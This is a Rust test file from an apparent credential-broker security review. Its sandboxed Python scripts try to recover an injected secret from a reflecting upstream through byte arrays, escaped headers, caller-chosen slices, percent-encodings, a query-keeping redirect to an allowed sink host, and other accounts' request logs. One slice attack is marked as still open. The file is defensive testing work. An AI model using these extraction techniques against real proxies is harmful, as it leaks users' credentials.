//! An eighth attack review, run as the process inside the sandbox: each test performs one
//! attack from a sandbox (uid 65534, arbitrary Python) against the real agent, real
//! kernel and real upstreams on the test namespace's `lo`, and asserts the secure
//! outcome. A test marked `#[ignore = "open: …"]` is a break found and not yet fixed:
//! it fails against the current agent.
//!
//! Angle: the broker's answer as an exit for the credential a call carried. The caller
//! holds a handle; the broker injects the real value upstream; the upstream reflects
//! what it got, in the forms ordinary server software writes bytes and strings in
//! (a byte array as Node, Python, Java, Go and .NET print one; escaped text in a
//! response header; a slice of a request header, as API gateways' mapping templates
//! and expression languages offer), and the test looks for the value in what the
//! caller got back.
//!
//! Everything lives on `lo` in the test's own network namespace; dnsmasq answers the
//! test names; the upstream is a Python HTTPS server started by the test.

use hb_tests::{TestEnv, sandboxed::nobody_broker_client, worlds::ReflectingUpstream};
use serde_json::Value;

const DNS_PORT: u16 = 5480;

/// The bearer credential of integration `e` (host `echo.test`): fake, made for this
/// file. 40 characters of digits and letters past a public prefix, so its least run
/// (`scrub::min_run`) is 8 characters.
const SECRET: &str = "ghp_R8evw8Tok3nXyZaBcDeFgHiJkLmNoPqRs0AZ";

/// A credential with symbols every few characters, as a password generator makes one
/// (fake, made for this file): the characters percent-encoders disagree on (`!*'()~`).
const SYMBOL_SECRET: &str = "Qz7!mK*2(pL~9)wX'4rT!8*nB~e";

/// The credential of integration `q` (the `api_key` query parameter, host `echo.test`)
/// in the redirect world: fake, made for this file.
const QUERY_SECRET: &str = "qk_8mZr2Lw9Xc4Tn7Vb1Hs6Jd3Fg5Ky0PeW";

/// The credential of integration `q`'s account `admin` in the redirect world: fake,
/// made for this file.
const ADMIN_SECRET: &str = "qk_Vt5nR8aLw2Hx7Cm4Ze9Bp3Uy6Dj1KsQo";

/// An HTTPS upstream on `addr`:443 that reflects the request's `Authorization` header:
/// - `/bytes?fmt=F`: the header's bytes as a byte array, the way server software prints
///   one: `node_json` (`JSON.stringify` of a Node `Buffer`), `py_list` (Python's
///   `list(bytes)`), `java` (`Arrays.toString(byte[])`), `go_v` (Go's `%v` of a
///   `[]byte`), `node_inspect` (Node's `util.inspect` of a `Buffer`, all of it), `colon`
///   (hex pairs joined with `:`), `dotnet` (.NET's `BitConverter.ToString`), `od` (hex
///   pairs joined with spaces, as `od -An -tx1` or Go's `% x`);
/// - `/header?enc=E`: an empty body and the header, encoded by `E` (`json_mixed`: every
///   second character as a JSON `\uXXXX`; `html_mixed`: every third one as an HTML
///   `&#…;`; `json_all`: every one as `\uXXXX`), in the answer's `X-Debug` header, as a
///   debugging middleware reporting what it saw in a header;
/// - `/pct?enc=E`: the header percent-encoded by encoder `E`, as a "self" or "next" link
///   built from the request would hold it: `js` (`encodeURIComponent`: keeps
///   `A-Za-z0-9-_.!~*'()`), `form` (`URLSearchParams` and Java's `URLEncoder`: keeps
///   `A-Za-z0-9-_.*`, space as `+`), `php` (PHP's `urlencode`: keeps `A-Za-z0-9-_.`,
///   space as `+`), `py` (Python's `quote`: keeps `A-Za-z0-9-_.~/`);
/// - `/go?to=URL&…`: a 302 to `URL` with the request's whole query string appended, as
///   an endpoint that moved (or a login or tracking redirect) keeps it;
/// - on host `sink.test`, anything: `ok` (a host of the policy's `allow_domains`, which
///   the sandbox reads: a paste or webhook-inspection service, a bucket it lists);
/// - `/log?cut=N`: the path (query included) of every earlier request but those to
///   `/log`, one a line, each cut to its first `N` characters and percent-encoded whole
///   (`quote(p, safe="")`), as a provider's request-log API lists an organisation's
///   recent calls in links to each;
/// - `/slice?off=O&len=N`: the header's characters from `O`, `N` of them, as an API
///   gateway's mapping template (`$input.params('Authorization').substring(O, O+N)`)
///   or any API with an expression language over the request does.
///
/// Every request is one JSON line in `log`.
const REFLECT_PY: &str = r#"
import http.server, json, ssl, sys, urllib.parse
addr, log, cert, key = sys.argv[1:5]
def json_mixed(s):
    return "".join("\\u%04X" % ord(c) if i % 2 else c for i, c in enumerate(s))
def html_mixed(s):
    return "".join("&#%d;" % ord(c) if i % 3 == 0 else c for i, c in enumerate(s))
def json_all(s):
    return "".join("\\u%04x" % ord(c) for c in s)
BYTES = {
    "node_json": lambda b: json.dumps({"type": "Buffer", "data": list(b)}, separators=(",", ":")),
    "py_list": lambda b: repr(list(b)),
    "java": lambda b: "[" + ", ".join(str(x if x < 128 else x - 256) for x in b) + "]",
    "go_v": lambda b: "[" + " ".join(str(x) for x in b) + "]",
    "node_inspect": lambda b: "<Buffer " + " ".join("%02x" % x for x in b) + ">",
    "colon": lambda b: ":".join("%02x" % x for x in b),
    "dotnet": lambda b: "-".join("%02X" % x for x in b),
    "od": lambda b: " ".join("%02x" % x for x in b),
}
SEEN = []
HEADER = {"json_mixed": json_mixed, "html_mixed": html_mixed, "json_all": json_all}
PCT = {
    "js": lambda s: urllib.parse.quote(s, safe="-_.!~*'()"),
    "form": lambda s: urllib.parse.quote_plus(s, safe="*").replace("~", "%7E"),
    "php": lambda s: urllib.parse.quote_plus(s, safe="").replace("~", "%7E"),
    "py": lambda s: urllib.parse.quote(s),
}
class H(TlsHandler):
    def answer(self, body, headers=()):
        out = body.encode()
        self.send_response(200)
        self.send_header("Content-Type", "text/plain; charset=utf-8")
        for k, v in headers:
            self.send_header(k, v)
        self.send_header("Content-Length", str(len(out)))
        self.end_headers()
        self.wfile.write(out)
    def do_GET(self):
        u = urllib.parse.urlparse(self.path)
        q = {k: v[0] for k, v in urllib.parse.parse_qs(u.query).items()}
        auth = self.headers.get("authorization", "")
        host = self.headers.get("host", "")
        with open(log, "a") as f:
            f.write(json.dumps({"host": host, "path": self.path, "auth": auth}) + "\n")
        if u.path != "/log":
            SEEN.append(self.path)
        if host.startswith("sink.test"):
            self.answer("ok\n")
        elif u.path == "/go":
            to = q["to"]
            self.send_response(302)
            self.send_header("Location", to + ("&" if "?" in to else "?") + u.query)
            self.send_header("Content-Length", "0")
            self.end_headers()
        elif u.path == "/log":
            self.answer("".join(urllib.parse.quote(p[:int(q["cut"])], safe="") + "\n" for p in SEEN))
        elif u.path == "/bytes":
            self.answer("you sent: %s\n" % BYTES[q["fmt"]](auth.encode()))
        elif u.path == "/header":
            self.answer("", [("X-Debug", HEADER[q["enc"]](auth))])
        elif u.path == "/pct":
            self.answer("next: https://echo.test/items?page=2&token=%s\n" % PCT[q["enc"]](auth))
        elif u.path == "/slice":
            off, n = int(q["off"]), int(q["len"])
            self.answer("you sent: %s\n" % auth[off:off + n])
        else:
            self.send_error(404)
"#;

/// A broker world: integration `e` (bearer, host `echo.test` on 203.0.113.10, GET),
/// bound to policy `web`; its credential `secret`. The upstream is [`REFLECT_PY`].
struct World {
    secret: &'static str,
    env: TestEnv,
    upstream: ReflectingUpstream,
}

impl World {
    fn new(name: &str) -> Self {
        Self::with_secret(name, SECRET)
    }

    fn with_secret(name: &str, secret: &'static str) -> Self {
        Self::build(name, secret, false)
    }

    /// With `redirects`: `broker.follow_redirects` on, integration `q` (the `api_key`
    /// query parameter, host `echo.test`, credential [`QUERY_SECRET`]) bound to `web` as
    /// well, and `sink.test` (the same server) in `web`'s `allow_domains`.
    fn build(name: &str, secret: &'static str, redirects: bool) -> Self {
        let upstream = ReflectingUpstream::start(
            &format!("review8-{name}"),
            DNS_PORT,
            &["echo.test", "sink.test"],
            REFLECT_PY,
            &[],
        );
        let body = format!(
            r#"
[[integration]]
name = "e"
auth = "bearer"
hosts = ["echo.test"]
methods = ["GET"]
{q}
[[policy]]
name = "web"
integrations = ["e"{q_bound}]
{reach}
"#,
            q = if redirects {
                "\n[[integration]]\nname = \"q\"\nauth = { query = \"api_key\" }\nhosts = [\"echo.test\"]\nmethods = [\"GET\"]\n"
            } else {
                ""
            },
            q_bound = if redirects { ", \"q\"" } else { "" },
            reach = if redirects {
                "allow_domains = [\"sink.test\"]"
            } else {
                ""
            },
        );
        let broker_extra = if redirects {
            "follow_redirects = true\n"
        } else {
            ""
        };
        let mut credentials = vec![("e", "bot", secret)];
        if redirects {
            credentials.extend([("q", "bot", QUERY_SECRET), ("q", "admin", ADMIN_SECRET)]);
        }
        let env = upstream.agent(name, broker_extra, &body, &credentials);
        Self {
            secret,
            env,
            upstream,
        }
    }

    /// Runs `script` (with `hb` a broker client, `attempt(f)`, and `h` a handle for
    /// integration `e`) in a sandbox under policy `web` as user 65534; its JSON output.
    fn in_sandbox(&self, script: &str) -> Value {
        let script = format!("h = hb.handle(\"e\", \"bot\")[\"handle\"]\n{script}");
        nobody_broker_client(&self.env, "web", &script, &[])
    }

    /// Asks the upstream `GET https://echo.test/{query}{case}` for each of `cases`, in one
    /// sandbox (`head`: Python run first); per case, the broker error's code, or the
    /// status and what `recover` (Python lines indented by four, given the answer `r`,
    /// setting `recovered`) read back from the answer, as the attacker would.
    fn each_case(&self, head: &str, query: &str, cases: &[&str], recover: &str) -> Value {
        self.in_sandbox(&format!(
            r#"
{head}
out = {{}}
for case in {cases}:
    r = attempt(lambda: hb.request("GET", "https://echo.test/{query}" + case, handle=h))
    if "error" in r:
        out[case] = {{"error": r["error"], "recovered": ""}}
        continue
{recover}
    out[case] = {{"status": r["status"], "recovered": recovered}}
print(json.dumps(out))
"#,
            cases = serde_json::to_string(cases).expect("cases"),
        ))
    }

    /// Every one of the `cases` answers of [`World::each_case`] in `got` was made with
    /// the credential and answered (or refused as a fragment hit); the `figure:` line;
    /// none gave the caller the credential (`how` it came back, for the message).
    fn assert_no_case_leaked(&self, got: &Value, cases: usize, how: &str) {
        assert_eq!(
            self.credentialed_requests(),
            cases,
            "the credential did not reach the upstream"
        );
        println!("figure: {}", outcomes(got, self.secret));
        assert_answered_or_refused(got);
        let leaked = leaked_in(got, self.secret);
        assert!(
            leaked.is_empty(),
            "the credential came back to the caller {how} {leaked:?}"
        );
    }

    /// How many requests reached the upstream carrying the credential.
    fn credentialed_requests(&self) -> usize {
        self.upstream
            .records()
            .iter()
            .filter(|r| r["auth"] == format!("Bearer {}", self.secret))
            .count()
    }
}

/// The keys of `answers` (an object of per-case results) whose `recovered` holds
/// `secret`.
fn leaked_in(answers: &Value, secret: &str) -> Vec<String> {
    answers
        .as_object()
        .expect("answers")
        .iter()
        .filter(|(_, v)| v["recovered"].as_str().unwrap_or_default().contains(secret))
        .map(|(k, _)| k.clone())
        .collect()
}

/// Every case of `answers` was answered (200) or refused as a fragment hit: the
/// upstream was reached and reflected.
fn assert_answered_or_refused(answers: &Value) {
    for (case, v) in answers.as_object().expect("answers") {
        assert!(
            v["status"] == 200 || v["error"] == "credential_fragment",
            "{case}: {v}"
        );
    }
}

/// What each case's answer gave the caller, for the `figure:` line: `leaked`, the
/// broker error's code, or `redacted`.
fn outcomes(answers: &Value, secret: &str) -> String {
    answers
        .as_object()
        .expect("answers")
        .iter()
        .map(|(k, v)| {
            let what = if v["recovered"].as_str().unwrap_or_default().contains(secret) {
                "LEAKED".to_string()
            } else if let Some(e) = v["error"].as_str() {
                e.to_string()
            } else {
                "held".to_string()
            };
            format!("{k}={what}")
        })
        .collect::<Vec<_>>()
        .join(" ")
}

// FINDING: an upstream that prints the request's Authorization header as a byte array
// (Node's `JSON.stringify(buffer)` → `{"type":"Buffer","data":[103,104,…]}`, Go's `%v`
// of a `[]byte` → `[103 104 …]`, Python's/Java's `[103, 104, …]`, Node's
// `util.inspect` → `<Buffer 67 68 …>`, .NET's `67-68-…`) hands the caller the whole
// credential: `scrub/live.rs::forms` has no decimal or separated-hex form, the spread
// view decodes NULs and escapes only, and the fragment watch (`scrub/fragments.rs`)
// cuts the same forms into runs, so neither the whole value nor any run matches.
/// A credential its upstream reflects as a byte array (decimal or hex, in the ways
/// Node, Python, Java, Go, .NET and `od` print one) never reaches the caller.
#[test]
fn a_credential_reflected_as_a_byte_array_never_reaches_the_caller() {
    let w = World::new("review8-bytes");
    let fmts = [
        "node_json",
        "py_list",
        "java",
        "go_v",
        "node_inspect",
        "colon",
        "dotnet",
        "od",
    ];
    let got = w.each_case(
        "import re",
        "bytes?fmt=",
        &fmts,
        r#"    body = r.get("body", "")
    # What the attacker does with it: read the numbers back as bytes.
    if case in ("node_json", "py_list", "java", "go_v"):
        nums = [int(x) % 256 for x in re.findall(r"-?\d+", body)]
    else:
        nums = [int(x, 16) for x in re.findall(r"\b[0-9a-fA-F]{2}\b", body)]
    recovered = bytes(nums).decode("latin-1")"#,
    );
    w.assert_no_case_leaked(&got, fmts.len(), "as a byte array in");
}

// FINDING: an upstream that reflects the credential into a response header with every
// second character a JSON `\uXXXX` escape, or every third an HTML `&#…;` reference,
// hands it to the caller: `broker/requests.rs::respond` decodes escapes in the body's
// view (`cut_spread`) but scrubs header values as they are, where no whole form and no
// run of 8 of any form matches (every escape at once is a form, so `json_all` held).
/// A credential its upstream reflects into a response header with some or all of its
/// characters escaped (JSON `\uXXXX`, HTML `&#…;`) never reaches the caller.
#[test]
fn a_credential_reflected_escaped_in_a_response_header_never_reaches_the_caller() {
    let w = World::new("review8-header");
    let encs = ["json_all", "json_mixed", "html_mixed"];
    let got = w.each_case(
        "import html",
        "header?enc=",
        &encs,
        r#"    v = r["headers"].get("x-debug", "")
    # What the attacker does with it: undo the escapes.
    try:
        v = json.loads('"' + v + '"', strict=False)
    except Exception:
        pass
    recovered = html.unescape(v)"#,
    );
    w.assert_no_case_leaked(&got, encs.len(), "in a response header, escaped as");
}

// FINDING (open): an upstream that echoes a slice of the request's Authorization header
// at an offset and length the caller chooses (an API gateway's mapping template, a
// GraphQL or SQL-like API exposing request headers to an expression, PostgREST's
// `current_setting('request.headers')`) hands the caller the credential 7 characters
// a call: each answer holds less than `scrub::min_run` (8) characters of it, so neither
// the scrubber nor the fragment watch sees anything (`scrub/fragments.rs` says a
// caller "learns at most n - 1 characters at each end of the value"; with an offset it
// learns every part). No scrubber closes this: 1-character slices match nothing any
// scrubber could look for. What would: a per-(caller, account) ledger of which of the
// value's positions its answers have shown in runs of at least 5 characters (barring
// past a share of the value's bits) narrows it to slices of 4 or fewer at the cost of
// chance matches in large answers; the real fix is the operator's: an integration
// whose hosts can echo request headers through an expression must not get a
// credential a sandbox may not read (`DESIGN.md` should say so among residual risks).
/// A credential its upstream hands back a slice at a time (each slice shorter than
/// the least run the fragment watch looks for, at an offset the caller chooses) is not
/// rebuilt by the caller.
#[test]
#[ignore = "open: an upstream echoing caller-chosen slices shorter than scrub::min_run hands over the credential a few characters a call; no scrubber fix (see the comment)"]
fn a_credential_echoed_a_slice_at_a_time_is_not_rebuilt() {
    let w = World::new("review8-slices");
    // "Bearer " is 7 characters; slices of 7 (one less than the value's least run).
    let got = w.in_sandbox(&format!(
        r#"
n = 7
pieces = []
errors = []
for off in range(7, 7 + {len}, n):
    r = attempt(lambda: hb.request("GET", "https://echo.test/slice?off=%d&len=%d" % (off, n), handle=h))
    if "error" in r:
        errors.append(r["error"])
        continue
    pieces.append(r["body"][len("you sent: "):].rstrip("\n"))
print(json.dumps({{"slices": {{"recovered": "".join(pieces), "error": errors[0] if errors else None}}, "calls": len(pieces) + len(errors)}}))
"#,
        len = SECRET.len(),
    ));
    let calls = usize::try_from(got["calls"].as_u64().expect("calls")).expect("calls");
    assert!(calls > 0);
    let rebuilt = got["slices"]["recovered"].as_str().unwrap_or_default() == SECRET;
    println!(
        "figure: {calls} calls; the caller rebuilt the credential: {rebuilt}; first error: {}",
        got["slices"]["error"]
    );
    assert!(
        !rebuilt,
        "the caller rebuilt the credential from {calls} slices"
    );
}

/// A credential with symbols, reflected in a link percent-encoded as Python,
/// JavaScript, the URL standard's form serializer (and Java's `URLEncoder`) or PHP
/// encode it, never reaches the caller. `scrub/live.rs::forms` knows three sets of kept
/// characters (RFC 3986's unreserved, those and `/`, none); the others' encodings of
/// this value are found by the fragment watch (a run of 8 of a form), which refuses the
/// answer and bars the caller, so each encoder is tried by its own sandbox.
#[test]
fn a_credential_percent_encoded_by_another_encoder_never_reaches_the_caller() {
    let w = World::with_secret("review8-percent", SYMBOL_SECRET);
    let encs = ["py", "js", "form", "php"];
    let mut got = serde_json::Map::new();
    for enc in encs {
        let one = w.in_sandbox(&format!(
            r#"
import urllib.parse
r = attempt(lambda: hb.request("GET", "https://echo.test/pct?enc={enc}", handle=h))
if "error" in r:
    out = {{"error": r["error"], "recovered": ""}}
else:
    # What the attacker does with it: read the link's query.
    link = r["body"].split("next: ", 1)[1].strip()
    q = urllib.parse.parse_qs(urllib.parse.urlparse(link).query)
    out = {{"status": r["status"], "recovered": q.get("token", [""])[0]}}
print(json.dumps(out))
"#
        ));
        got.insert(enc.to_string(), one);
    }
    let got = Value::Object(got);
    println!("figure: {}", outcomes(&got, SYMBOL_SECRET));
    assert_eq!(
        w.credentialed_requests(),
        encs.len(),
        "the credential did not reach the upstream"
    );
    let leaked = leaked_in(&got, SYMBOL_SECRET);
    assert!(
        leaked.is_empty(),
        "the credential came back to the caller percent-encoded by {leaked:?}"
    );
}

// FINDING: with `broker.follow_redirects` on, an upstream's redirect that keeps the
// query string (an endpoint that moved, a login or tracking redirect) carries a query
// credential to another host: `broker/outbound/mod.rs::Carry::redirect` drops the
// credential the broker added (the `api_key` parameter it appends) when a hop leaves
// the integration, but the `Location` the upstream wrote already holds it, and
// `Decision::hop` judges the hop's host, scheme and port only. Any host the policy's
// `allow_domains` names (which the sandbox can reach, and read back from) receives it.
/// A redirect whose `Location` holds the call's credential is not followed to a host
/// outside the integration.
#[test]
fn a_redirect_that_keeps_the_query_does_not_carry_the_credential_to_another_host() {
    let w = World::build("review8-redirect", SECRET, true);
    let got = w.in_sandbox(
        r#"
q = hb.handle("q", "bot")["handle"]
r = attempt(lambda: hb.request("GET", "https://echo.test/go?to=https://sink.test/landed", handle=q))
print(json.dumps({"status": r.get("status"), "error": r.get("error")}))
"#,
    );
    let records = w.upstream.records();
    let at_echo = records
        .iter()
        .filter(|r| {
            r["host"]
                .as_str()
                .is_some_and(|h| h.starts_with("echo.test"))
                && r["path"].as_str().is_some_and(|p| p.contains(QUERY_SECRET))
        })
        .count();
    let at_sink = records
        .iter()
        .filter(|r| {
            r["host"]
                .as_str()
                .is_some_and(|h| h.starts_with("sink.test"))
                && r["path"].as_str().is_some_and(|p| p.contains(QUERY_SECRET))
        })
        .count();
    println!(
        "figure: the caller got status {} error {}; the credential reached sink.test in {at_sink} request(s)",
        got["status"], got["error"]
    );
    assert_eq!(
        at_echo, 1,
        "the credential did not reach echo.test: {records:?}"
    );
    assert_eq!(at_sink, 0, "the credential reached sink.test");
}

// FINDING (fixed): the fragment watch looked for runs of the credentials a call carried
// only, and the scrubber for whole values only. A caller holding handles for two
// accounts (or two integrations) read one's credential, all but its last characters,
// through a call made with the other: the account `admin` makes a call whose URL the
// upstream's request log keeps (padded so that the log's cut leaves all but the last
// character of the key), and account `bot` reads the organisation's request log (each
// URL percent-encoded, as in a link, so the `api_key=` assignment family does not see
// an assignment). The answer carried 34 of `admin`'s 35 characters: not the whole value
// (no scrub), not a run of `bot`'s (no hit). Now every call of a caller, request and
// answer, is watched for runs of the credentials of every account it was given a handle
// for (`fragment_hit::Others`): the log call is refused and the caller barred from
// `admin`.
/// A caller holding handles for two accounts does not read one's credential, in part,
/// through a call made with the other.
#[test]
fn another_accounts_credential_cut_short_is_not_read_through_a_call_of_this_one() {
    let w = World::build("review8-log", SECRET, true);
    // "/pad/" and 15 characters, "?api_key=", then the key: the cut leaves all but its
    // last character.
    let cut = "/pad/".len() + 15 + "?api_key=".len() + ADMIN_SECRET.len() - 1;
    let got = w.in_sandbox(&format!(
        r#"
admin = hb.handle("q", "admin")["handle"]
bot = hb.handle("q", "bot")["handle"]
first = attempt(lambda: hb.request("GET", "https://echo.test/pad/" + "p" * 15, handle=admin))
r = attempt(lambda: hb.request("GET", "https://echo.test/log?cut={cut}", handle=bot))
import urllib.parse
lines = [urllib.parse.unquote(l) for l in r.get("body", "").splitlines()]
pieces = [l.split("api_key=", 1)[1] for l in lines if "api_key=" in l]
print(json.dumps({{"first": first.get("status", first.get("error")), "log": r.get("status", r.get("error")), "pieces": pieces}}))
"#
    ));
    // The upstream has no /pad: a 404, logged all the same.
    assert_eq!(got["first"], 404, "{got}");
    let read = got["pieces"]
        .as_array()
        .expect("pieces")
        .iter()
        .filter_map(Value::as_str)
        .filter(|p| ADMIN_SECRET.starts_with(p))
        .map(str::len)
        .max()
        .unwrap_or(0);
    println!(
        "figure: the log call answered {}; the caller read {read} of the admin key's {} characters",
        got["log"],
        ADMIN_SECRET.len()
    );
    assert!(
        read < 8,
        "the caller read {read} characters of another account's credential"
    );
}

/// Reads the request log through a `bot` handle of integration `q` with cut `cut`
/// (after `setup`, Python run first in the same sandbox); the JSON of the log call's
/// outcome and the longest start of [`ADMIN_SECRET`] the caller read.
fn read_admin_key_from_log(w: &World, setup: &str, cut: usize) -> (Value, usize) {
    let got = w.in_sandbox(&format!(
        r#"
{setup}
bot = hb.handle("q", "bot")["handle"]
r = attempt(lambda: hb.request("GET", "https://echo.test/log?cut={cut}", handle=bot))
again = attempt(lambda: hb.handle("q", "bot"))
import urllib.parse
lines = [urllib.parse.unquote(l) for l in r.get("body", "").splitlines()]
pieces = [l.split("api_key=", 1)[1] for l in lines if "api_key=" in l]
print(json.dumps({{"log": r.get("status", r.get("error")), "again": "handle" if "handle" in again else again.get("error"), "pieces": pieces}}))
"#
    ));
    let read = got["pieces"]
        .as_array()
        .expect("pieces")
        .iter()
        .filter_map(Value::as_str)
        .filter(|p| !p.is_empty() && ADMIN_SECRET.starts_with(p))
        .map(str::len)
        .max()
        .unwrap_or(0);
    (got, read)
}

/// The cut that leaves all but the last character of the key of a call to
/// `/pad/` and 15 characters.
fn cut_short() -> usize {
    "/pad/".len() + 15 + "?api_key=".len() + ADMIN_SECRET.len() - 1
}

/// A caller that deletes its `admin` handle after the padded call is still watched for
/// `admin`'s runs: the accounts a caller was given handles for are remembered past the
/// handles.
#[test]
fn a_deleted_handle_does_not_end_the_watch_for_its_accounts_credential() {
    let w = World::build("review8-logdel", SECRET, true);
    let (got, read) = read_admin_key_from_log(
        &w,
        r#"admin = hb.handle("q", "admin")["handle"]
first = attempt(lambda: hb.request("GET", "https://echo.test/pad/" + "p" * 15, handle=admin))
assert first.get("status") == 404, first
hb.delete_handle(admin)"#,
        cut_short(),
    );
    println!(
        "figure: with the admin handle deleted, the log call answered {}; the caller read {read} of {} characters",
        got["log"],
        ADMIN_SECRET.len()
    );
    assert_eq!(got["log"], "credential_fragment", "{got}");
    assert!(read < 8, "read {read} characters of admin's key");
}

/// Near miss: the watch is per caller. A caller that holds no handle for `admin` (another
/// sandbox made the padded call) is not refused or barred for a run of `admin`'s key in
/// an answer to it (a bar would let any tenant get any other barred by planting text):
/// a cut short of the whole value is served, and only the whole value is the
/// scrubber's to redact (the case this review leaves to the whole-value match).
#[test]
fn another_callers_account_cut_short_is_left_to_the_whole_value_scrub() {
    let w = World::build("review8-logother", SECRET, true);
    let first = w.in_sandbox(
        r#"admin = hb.handle("q", "admin")["handle"]
first = attempt(lambda: hb.request("GET", "https://echo.test/pad/" + "p" * 15, handle=admin))
print(json.dumps({"first": first.get("status", first.get("error"))}))"#,
    );
    assert_eq!(first["first"], 404, "{first}");
    let (short, read_short) = read_admin_key_from_log(&w, "", cut_short());
    let (whole, read_whole) = read_admin_key_from_log(&w, "", cut_short() + 1);
    println!(
        "figure: a caller with no admin handle: cut short answered {} (read {read_short} of {}), whole answered {} (read {read_whole})",
        short["log"],
        ADMIN_SECRET.len(),
        whole["log"]
    );
    assert_eq!(short["log"], 200, "{short}");
    assert_eq!(short["again"], "handle", "the caller was barred: {short}");
    assert_eq!(whole["log"], 200, "{whole}");
    assert!(
        read_whole < ADMIN_SECRET.len(),
        "the whole value came through: {whole}"
    );
}
